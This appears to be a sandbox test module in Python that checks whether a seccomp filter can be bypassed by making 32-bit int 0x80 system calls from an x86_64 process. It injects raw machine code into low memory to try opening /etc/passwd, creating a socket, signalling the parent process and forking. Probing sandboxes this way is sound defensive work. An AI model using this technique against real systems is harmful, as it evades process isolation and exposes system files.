# hopes: that a filter which knows the calls of one architecture lets the numbers of another one through
# stopped by: seccomp ends a process that calls in another architecture's way; the whole module cannot be imported then
# import: fails

import ctypes
import os
import platform

_PROT_ALL, _PRIVATE_ANONYMOUS_LOW = 7, 0x62  # an address below 4 GiB, for arguments of 32 bits
_CODE = bytes.fromhex("53 89f8 89f3 4887ca cd80 4898 5b c3")  # call(number, a, b, c) by int 0x80
_FORK, _OPEN, _SOCKETCALL, _KILL = 2, 5, 102, 37


def _low_memory():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_size_t
    return libc.mmap(None, ctypes.c_size_t(8192), _PROT_ALL, _PRIVATE_ANONYMOUS_LOW, -1, ctypes.c_long(0))


def _attack():
    place = _low_memory()
    ctypes.memmove(place, _CODE, len(_CODE))
    ctypes.memmove(place + 4096, b"/etc/passwd\0", 12)
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)(place)
    if call(_OPEN, place + 4096, 0, 0) >= 0:
        it_worked("/etc/passwd was opened")
    (ctypes.c_uint32 * 3).from_address(place + 4096)[:] = [2, 1, 0]
    if call(_SOCKETCALL, 1, place + 4096, 0) >= 0:
        it_worked("a socket")
    if call(_KILL, os.getppid(), 0, 0) >= 0:
        it_worked("a signal")
    pid = call(_FORK, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid > 0:
        it_worked("fork")
    it_worked("a call of 32 bits came back")


if platform.machine() == "x86_64":
    _attack()
